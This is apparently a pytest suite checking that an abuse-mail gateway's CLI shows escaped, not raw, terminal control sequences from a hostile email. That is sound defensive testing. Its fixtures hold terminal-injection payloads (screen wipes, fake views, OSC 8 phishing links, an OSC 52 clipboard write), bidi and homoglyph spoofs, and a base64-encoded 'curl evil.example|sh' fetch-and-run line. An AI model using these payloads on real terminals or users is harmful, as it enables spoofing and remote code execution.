"""Issue 15 point 2: nothing a sender wrote reaches the analyst's terminal as control bytes.

Messages arrive over real SMTP; the CLI runs as a real subprocess, once on a pseudo-terminal (what the desk
uses) and once through a pipe (what `| less` and scripts see). Both must carry only visible escapes.
"""

from __future__ import annotations

import base64
import json
import os
import re
import select
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import RunningGateway

ESC = "\x1b"
# What a hostile sender puts where a terminal will act on it: a screen wipe and a painted fake case view,
# an OSC 8 hyperlink, an OSC 52 clipboard write, an OSC 0 title, a C1 CSI, bidi overrides, zero-width chars.
FAKE_VIEW = f"{ESC}[2J{ESC}[HCase AG-FAKE  [closed]  reporter: trusted@bank.example\nFlags: none\n"
OSC8 = f"{ESC}]8;;https://evil.example/login{ESC}\\click{ESC}]8;;{ESC}\\"
OSC52 = f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g={ESC}\\"
OSC0 = f"{ESC}]0;root@desk{ESC}\\"
C1 = "\x9b31m\x9d0;title\x07"
BIDI = "invoice\u202egnp.exe"
ZW = "pay\u200bpal\u200d"
HOMOGLYPH = "p\u0430ypal.com"  # Cyrillic a

SUBJECT = f"{ESC}[2J{OSC0}Urgent {BIDI} {C1} {ZW} {HOMOGLYPH}"
DISPLAY_NAME = f"{ESC}[31mBank Security{OSC52}"
FILENAME = f"{BIDI}{ESC}]0;pwned{ESC}\\.pdf"
BODY = f"{FAKE_VIEW}Hello {OSC8} {OSC52} {C1}\nline2 {BIDI} {ZW}\r{ESC}[1Aoverwrite\n"

# Bytes that a terminal acts on: C0 except TAB/LF/CR (CR only appears as the pty's own line ending), DEL,
# C1 (UTF-8 C2 80..C2 9F), bidi controls and zero-width characters (UTF-8 E2 80 8B..8F, AA..AE, E2 81 A6..A9).
UNSAFE = re.compile(
    rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xaa-\xae]|\xe2\x81[\xa0\xa6-\xa9]"
    rb"|\xef\xbb\xbf"
)


def _b64_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def hostile_message() -> bytes:
    body = base64.encodebytes(BODY.encode()).decode()
    attachment = base64.encodebytes(b"%PDF-1.4 not really").decode()
    quoted_name = "".join(f"%{b:02X}" for b in FILENAME.encode())
    return (
        f"From: {_b64_word(DISPLAY_NAME)} <security@bank.example>\r\n"
        "To: abuse@example.org\r\n"
        f"Subject: {_b64_word(SUBJECT)}\r\n"
        "Message-ID: <hostile-terminal-1@bank.example>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{body}\r\n"
        "--b1\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{quoted_name}\r\n\r\n"
        f"{attachment}\r\n--b1--\r\n"
    ).encode()


def cli_config_for(tmp_path: Path, store_url: str) -> Path:
    path = tmp_path / "cli.toml"
    path.write_text(
        f'[store]\nurl = "{store_url}"\nspool_dir = "{tmp_path}/spool"\n'
        f'[confirm]\nenabled = false\noutbox_dir = "{tmp_path}/outbox"\nsecret_file = "{tmp_path}/key"\n'
    )
    return path


CLI = [sys.executable, "-c", "from gateway.cli import main; main()"]


def run_on_pty(config: Path, *args: str) -> tuple[int, bytes]:
    """The CLI with stdout and stderr on a pseudo-terminal; returns (exit code, everything it wrote)."""
    master, slave = os.openpty()
    proc = subprocess.Popen([*CLI, "--config", str(config), *args], stdout=slave, stderr=slave)
    os.close(slave)
    chunks: list[bytes] = []
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            proc.kill()
            pytest.fail("CLI on the pty wrote nothing for 60 s")
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed its side
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    return proc.wait(timeout=60), b"".join(chunks)


def run_on_pipe(config: Path, *args: str) -> tuple[int, bytes, bytes]:
    result = subprocess.run([*CLI, "--config", str(config), *args], capture_output=True, timeout=120)
    return result.returncode, result.stdout, result.stderr


@pytest.fixture
def hostile_case(
    gateway_factory: Callable[..., RunningGateway], store_url: str, tmp_path: Path
) -> tuple[Path, str]:
    gateway = gateway_factory(store_url, confirm={"enabled": False})
    code, reply = gateway.send(hostile_message(), mail_from="security@bank.example")
    assert code == 250, reply
    gateway.wait_idle()
    [row] = gateway.store.list_cases()  # the case ID from the store: each test then runs the CLI itself
    return cli_config_for(tmp_path, store_url), row["case_id"]


def assert_terminal_safe(output: bytes) -> str:
    found = UNSAFE.findall(output)
    assert not found, f"raw control bytes reached the terminal: {found[:10]}"
    return output.decode()


def test_case_list_and_show_on_a_terminal_carry_no_control_bytes(hostile_case: tuple[Path, str]) -> None:
    config, case_id = hostile_case
    code, listed = run_on_pty(config, "cases", "list")
    assert code == 0
    listed_text = assert_terminal_safe(listed)
    assert "\\x1b[2J" in listed_text and "<U+202E>" in listed_text and "\\x9b31m" in listed_text
    code, shown = run_on_pty(config, "cases", "show", case_id)
    assert code == 0
    text = assert_terminal_safe(shown)
    for visible in ("\\x1b]8;;", "\\x1b]52;c;", "\\x1b]0;", "<U+202E>", "<U+200B>", "\\x9d0;title"):
        assert visible in text, visible
    assert "hxxps://evil[.]example/login" in text  # the OSC 8 target is shown, defanged


def test_fake_case_view_painted_with_clear_screen_cannot_hide_the_real_header(
    hostile_case: tuple[Path, str],
) -> None:
    config, case_id = hostile_case
    code, shown = run_on_pty(config, "cases", "show", case_id)
    assert code == 0
    lines = assert_terminal_safe(shown).splitlines()
    assert lines[0].startswith(f"Case {case_id}  [open]")  # the real header comes first, nothing wipes it
    fake = [line for line in lines if "AG-FAKE" in line]
    assert fake and all(line.startswith("\\x1b[2J\\x1b[H") for line in fake)


def test_display_name_filename_and_subject_are_escaped_through_a_pipe_too(
    hostile_case: tuple[Path, str],
) -> None:
    config, case_id = hostile_case
    code, out, _ = run_on_pipe(config, "cases", "show", case_id)
    assert code == 0
    text = assert_terminal_safe(out)
    attachment = next(line for line in text.splitlines() if line.startswith("Attachment:"))
    assert "invoice<U+202E>gnp" in attachment and "\\x1b]0;pwned\\x1b\\" in attachment
    subject = next(line for line in text.splitlines() if line.startswith("Subject:"))
    assert "\\x1b]0;root@desk" in subject and "pay<U+200B>pal<U+200D>" in subject


def test_homoglyph_host_is_shown_with_its_punycode(hostile_case: tuple[Path, str]) -> None:
    config, case_id = hostile_case
    _, shown = run_on_pty(config, "cases", "show", case_id)
    assert "p\u0430ypal[.]com (xn--pypal-4ve[.]com)" in shown.decode()


def test_json_on_a_terminal_stays_json_and_carries_no_raw_c1_or_bidi(hostile_case: tuple[Path, str]) -> None:
    config, case_id = hostile_case
    code, shown = run_on_pty(config, "cases", "show", case_id, "--json")
    assert code == 0
    view = json.loads(assert_terminal_safe(shown))
    subject = view["messages"][0]["subject"]
    assert "\u202e" in subject and "\x9b" in subject and ESC in subject  # the data is kept, only escaped
    _, listed = run_on_pty(config, "cases", "list", "--json")
    assert json.loads(assert_terminal_safe(listed))[0]["case_id"] == case_id
    _, exported, _ = run_on_pipe(config, "cases", "export")
    for line in assert_terminal_safe(exported).splitlines():
        json.loads(line)


def test_cases_raw_refuses_a_terminal_but_writes_to_a_pipe_or_with_force(
    hostile_case: tuple[Path, str],
) -> None:
    config, case_id = hostile_case
    code, out = run_on_pty(config, "cases", "raw", case_id, "1")
    assert code != 0 and b"redirect" in out
    assert_terminal_safe(out)
    code, piped, _ = run_on_pipe(config, "cases", "raw", case_id, "1")
    assert code == 0 and piped == hostile_message()
    code, forced = run_on_pty(config, "cases", "raw", case_id, "1", "--force")
    assert code == 0 and b"Subject:" in forced
